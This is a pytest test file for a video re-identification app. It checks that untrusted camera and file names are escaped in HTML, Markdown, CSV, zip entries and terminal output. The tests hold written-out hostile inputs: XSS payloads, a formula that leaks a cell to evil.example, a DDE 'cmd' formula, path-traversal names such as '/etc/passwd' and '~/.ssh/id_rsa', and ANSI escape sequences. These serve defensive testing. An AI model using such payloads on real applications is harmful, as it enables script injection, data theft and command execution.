"""Every user-supplied string is untrusted (issue 9, item 4).

Camera, folder and file names, start times and messages quoting them are rendered as Markdown or
HTML in the page (escaped: no tag, link, image, style or event handler of theirs survives), as
plain text in captions, tables and dropdowns (no control characters), in CSV exports (no formula
cells), in zip entry and file names (one safe component), and on the terminal (no control
characters, ANSI escapes or bidi overrides).
"""

from __future__ import annotations

import argparse
import csv
import io
import logging
import unicodedata
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import gradio as gr
import markdown_it
import pytest

from app.ui import callbacks as cb
from app.ui._uploads import persist_upload
from app.ui.layout import _guard
from reid.service import export as exporting
from reid.service.types import Match, SearchResponse
from reid.store import TrackletInfo
from tests.ui.conftest import write_video
from tests.ui.fakes import T0, FakeService

MARKUP = [
    "<img src=x onerror=alert(1)>",
    '<div style="position:fixed;inset:0;background:#fff">Session expired: log in</div>',
    "![x](http://evil.example/beacon.png)",
    "[click](javascript:alert(1))",
    "<http://evil.example/>",
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)' x='",
    "**bold** _it_ `code` | cell | ~~s~~",
    "$$\\href{javascript:alert(1)}{x}$$",
    "<a href=//evil.example>x</a>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "# heading",
]
CONTROL = ["\x1b[2J\x1b[31mred\x1b[0m", "a\rb", "x\u202eevil", "bell\x07", "nul\x00x", "two\nlines",
           "\x9b31mcsi", "zero\u200bwidth", "\u2028sep", "\x1b]0;title\x07osc"]
EVIL = MARKUP + CONTROL
HIDDEN = {"Cc", "Cf", "Zl", "Zp"}


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list) -> None:
        self.tags.append((tag, dict(attrs)))


def _tags(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Tags()
    parser.feed(html)
    parser.close()
    return parser.tags


MD_TAGS = {"p", "strong", "em", "code", "table", "thead", "tbody", "tr", "th", "td", "ul", "li",
           "h1", "br"}


def assert_safe_markdown(text: str) -> None:
    """Rendered as CommonMark (+tables, raw HTML on, as a worst case): only our own structure."""
    html = markdown_it.MarkdownIt("commonmark", {"html": True}).enable("table").render(text)
    for tag, attrs in _tags(html):
        assert tag in MD_TAGS and not attrs, (tag, attrs, text)
    for needle in ("$$", "www.", "http:", "javascript:"):
        assert needle not in text, (needle, text)  # LaTeX and autolinks (GFM) stay inert too
    assert not any(unicodedata.category(c) in HIDDEN for c in text.replace("\n", "")), repr(text)


HTML_TAGS = {"div", "span", "b", "p", "table", "tr", "td", "th"}


def assert_safe_html(html: str) -> None:
    """Only our tags, our attributes, our styles (bar positions and widths)."""
    for tag, attrs in _tags(html):
        assert tag in HTML_TAGS, (tag, html)
        assert set(attrs) <= {"class", "style", "title"}, (tag, attrs)
        style = attrs.get("style") or ""
        assert all(part.split(":")[0].strip() in ("left", "width", "") for part in style.split(";")), style
    assert not any(unicodedata.category(c) in HIDDEN for c in html), repr(html)


def assert_plain(text: str) -> None:
    assert not any(unicodedata.category(c) in HIDDEN for c in str(text)), repr(text)


@pytest.fixture
def evil_service(tmp_path: Path) -> FakeService:
    service = FakeService(tmp_path / "data")
    for name in EVIL:
        service._add_video(name, 1, T0)
    return service


def test_camera_names_are_escaped_everywhere_the_page_shows_them(evil_service: FakeService) -> None:
    service = evil_service
    everyone = cb.list_people(service, None, limit=1000)
    assert_safe_html(everyone.timeline)
    for _image, caption in everyone.items:
        assert_plain(caption)
    for name in EVIL:
        view = cb.list_people(service, name)
        assert view.ids, name
        assert_safe_markdown(view.summary)
        assert_safe_html(view.timeline)
        tid = view.ids[0]
        _image, caption = cb.query_preview(service, tid)
        assert_safe_markdown(caption)
        response = cb.run_search(service, cb.build_request(cb.SearchForm(top_k=100), tracklet_id=tid),
                                 "web")
        results = cb.results_view(response)
        assert_safe_markdown(results.summary)
        assert_safe_html(results.timeline)
        for _image, caption in results.items:
            assert_plain(caption)
        for row in results.rows:
            for cell in row:
                assert_plain(cell)
        for index in range(len(results.items)):
            assert_safe_markdown(cb.play_match(service, response, index)[2])
    banner, status = cb.status_view(service)
    assert_safe_html(banner)
    assert_safe_markdown(status)
    from app.ui.layout import _camera_choices

    for label, value in _camera_choices(service.list_cameras()):
        assert_plain(label)
        assert value in service.list_cameras()  # the filter still gets the real name


def test_messages_quoting_user_text_are_escaped_in_toasts(evil_service: FakeService,
                                                          tmp_path: Path) -> None:
    for name in EVIL:
        calls = [
            lambda name=name: cb.list_people(evil_service, "nope" + name),
            lambda name=name: cb.run_search(
                evil_service, cb.build_request(cb.SearchForm(cameras=["nope" + name]), tracklet_id=1),
                "web"),
            lambda name=name: cb.build_request(cb.SearchForm(time_from=name), tracklet_id=1),
            lambda name=name: cb.build_request(cb.SearchForm(), tracklet_id=name),
            lambda name=name: list(cb.index_server_folder(evil_service, str(tmp_path / name),
                                                          [tmp_path / "archive"], actor="web")),
        ]
        for call in calls:
            with pytest.raises(gr.Error) as info:
                _guard(call, "Doing it")()
            message = str(info.value)
            assert "internal error" not in message, message
            assert "<" not in message and ">" not in message, message  # toasts render HTML
            assert_plain(message)
            assert len(message) < 1500


def test_upload_names_cameras_and_start_times_are_escaped_in_the_progress_table(
        tmp_path: Path) -> None:
    service = FakeService(tmp_path / "data")
    up = tmp_path / "up"
    up.mkdir()
    names = ["<img src=x onerror=alert(1)>.mp4", "x\u202e4pm.mp4", "a\x1b[31mb.mp4", "[a](javascript:x).mp4"]
    files = [str(write_video(up / n)) for n in names]
    table = [[Path(f).name, camera, start] for f, camera, start in
             zip(files, MARKUP, ["<b>x</b>", "", "2024-05-01\x1b[2J", ""], strict=False)]
    for row in cb.rows_for_files(files):
        for cell in row:
            assert_plain(cell)
    final = list(cb.index_uploads(service, files, table, actor="web", max_bytes=10**7, poll_s=0.01))[-1]
    assert_safe_html(final)
    assert final.count("reid-job-indexed") == 2 and final.count("reid-job-failed") == 2
    for camera in service.list_cameras():  # cameras typed in the table are stored made safe
        assert_plain(camera)
        assert "<" not in camera and "(" not in camera


def _tracklet(tid: int, camera: str, crop: Path) -> TrackletInfo:
    return TrackletInfo(id=tid, video_id=1, camera_id=1, camera=camera, track_id=1, first_frame=0,
                        last_frame=9, start_s=0.0, end_s=1.0, quality=0.5, crop_paths=(crop,),
                        thumbnail_path=crop, video_start_time=T0, has_descriptor=True)


FORMULAS = ["=HYPERLINK(\"http://evil.example?\"&A1,\"x\")", "+1+cmd|' /C calc'!A0", "-2+3",
            "@SUM(1,2)", "\t=1+1", "\r=1+1", "  =1+1", "\uff1d1+1"]


def test_csv_exports_never_start_a_cell_with_a_formula(tmp_path: Path) -> None:
    crop = tmp_path / "c.jpg"
    crop.write_bytes(b"jpeg")
    response = SearchResponse(None, [Match(_tracklet(i + 1, cam, crop), -0.25, i + 1)
                                     for i, cam in enumerate(FORMULAS)], 0.01)
    path = exporting.write_csv(response, tmp_path / "m.csv")
    zipped = exporting.write_zip(response, tmp_path / "m.zip", clip_for=lambda tid: crop)
    with zipfile.ZipFile(zipped) as z:
        texts = [path.read_bytes().decode("utf-8"), z.read("matches.csv").decode("utf-8")]
    for text in texts:
        rows = list(csv.DictReader(io.StringIO(text, newline="")))
        assert len(rows) == len(FORMULAS)
        for row, cam in zip(rows, FORMULAS, strict=True):
            assert row["camera"] == "'" + cam  # kept, but inert
            for value in row.values():
                assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d")) \
                    or value == row["score"], value
            assert float(row["score"]) == -0.25  # numbers stay numbers


NASTY_NAMES = ["../../etc/passwd", "/etc/passwd", "..", ".", "", "C:\\Windows\\x", "a/../../b",
               "con", "nul.txt", "x" * 500, "\u202eexe.jpg", "a\x00b", "\x1b[31m", "ＡＢＣ／..／x",
               "~/.ssh/id_rsa", ".hidden", "a\\..\\b", " ", "...."]


@pytest.mark.parametrize("name", NASTY_NAMES)
def test_file_and_zip_entry_names_are_one_safe_component(name: str) -> None:
    from reid.untrusted import safe_filename

    safe = safe_filename(name)
    assert safe and safe == unicodedata.normalize("NFKC", safe)
    assert "/" not in safe and "\\" not in safe and ".." not in safe and ":" not in safe
    assert not safe.startswith((".", " ", "~")) and len(safe) <= 80
    assert_plain(safe)
    assert safe.split(".")[0].lower() not in {"con", "nul", "prn", "aux"}


def test_zip_export_entries_stay_inside_the_archive(tmp_path: Path) -> None:
    crops = tmp_path / "crops"
    crops.mkdir()
    matches = []
    for i, cam in enumerate(NASTY_NAMES + EVIL):
        crop = crops / f"{i}..\u202e\x1b.jpg"
        crop.write_bytes(b"jpeg")
        matches.append(Match(_tracklet(i + 1, cam, crop), 0.5, i + 1))
    path = exporting.write_zip(SearchResponse(None, matches, 0.01), tmp_path / "m.zip",
                               clip_for=lambda tid: crops / "0..\u202e\x1b.jpg")
    with zipfile.ZipFile(path) as z:
        names = z.namelist()
    assert len(names) >= 2 * len(matches)
    for name in names:
        assert not name.startswith(("/", "\\")) and ".." not in name and "\\" not in name
        assert ":" not in name and all(0 < len(part) <= 100 for part in name.split("/"))
        assert_plain(name)


def test_uploaded_file_names_become_safe_file_names(tmp_path: Path) -> None:
    for i, name in enumerate(["..mp4", "\u202ecod.mp4", "a\x1b[2Jb.mp4", "<img>.mp4", " .mp4"]):
        src = tmp_path / f"src{i}"
        src.mkdir()
        (src / name).write_bytes(b"data %d" % i)
        dest = persist_upload(src / name, tmp_path / "uploads")
        assert dest.parent.parent == tmp_path / "uploads"
        assert not dest.name.startswith((".", " ")) and ".." not in dest.name
        assert_plain(dest.name)


class _Video:
    def __init__(self, vid: int, camera: str) -> None:
        self.id, self.camera, self.path = vid, camera, f"/footage/{camera}.mp4"
        self.status, self.duration_s, self.error = "failed", 12.0, f"cannot decode {camera}"


class _Service:
    """What ``reid videos`` and ``reid status`` read, with hostile names everywhere."""

    def __init__(self, tmp: Path) -> None:
        self.videos = [_Video(i + 1, name) for i, name in enumerate(EVIL)]
        self.data_dir = tmp
        self.store = self

    def list_videos(self) -> list[_Video]:
        return self.videos

    def stats(self) -> dict:
        return {"tracklets_per_video": {v.id: 1 for v in self.videos}}

    def status(self):
        from reid.service.types import ServiceStatus

        return ServiceStatus(self.data_dir, "hog\x1b[2J", True, "mobilenet", "imagenet", True, 8,
                             "flat", len(self.videos), len(self.videos),
                             {v.camera: 1 for v in self.videos}, ["note \x1b]0;x\x07"])


def _assert_clean_terminal(text: str) -> None:
    for bad in ("\x1b", "\r", "\u202e", "\x07", "\x00", "\x9b", "\u200b", "\u2028"):
        assert bad not in text, (bad, text)


@pytest.mark.parametrize("command", ["videos", "status"])
def test_terminal_output_has_no_control_characters(command: str, tmp_path: Path, capsys,
                                                   monkeypatch) -> None:
    import contextlib
    import importlib

    module = importlib.import_module(f"app.commands.{command}")
    service = _Service(tmp_path)
    if command == "videos":  # reads the gallery alone
        monkeypatch.setattr(module, "open_store", lambda settings: contextlib.nullcontext(service))
    else:  # the light status: gallery facts plus the models it would use, fingerprint included
        fingerprint = {"model": "evil\x1b[2Jmodel", "weights": "w\u202e\r", "dim": 8}
        monkeypatch.setattr(module, "light_status",
                            lambda settings: (service.status(), fingerprint, service.list_videos()))
    assert module.run(argparse.Namespace()) == 0
    out = capsys.readouterr().out
    _assert_clean_terminal(out)
    # the names are shown, only their control characters are gone
    assert "red" in out and "xevil" in out and "2J" not in out
    lines = out.splitlines()
    assert not any(line.startswith(("lines", "sep")) for line in lines)  # no forged lines


def test_cli_errors_and_logs_have_no_control_characters(capsys, monkeypatch, tmp_path: Path) -> None:
    from app import cli
    from app.commands import videos

    def boom(settings):
        raise ValueError("no such camera \x1b[2J\x1b[1;1Hfake prompt$ \u202e\r")

    monkeypatch.setattr(videos, "open_store", boom)
    assert cli.main(["videos", "--data-dir", str(tmp_path)]) == 1
    _assert_clean_terminal(capsys.readouterr().err)
    from app.commands._common import SafeLogFormatter
    from reid.untrusted import printable

    record = logging.LogRecord("reid", logging.INFO, __file__, 1, "indexed %s", ("a\x1b[2J\rb\u202e",),
                               None)
    _assert_clean_terminal(SafeLogFormatter("%(message)s").format(record))
    assert printable("cam\x1b[31m-1\x1b[0m\r\n") == "cam-1"
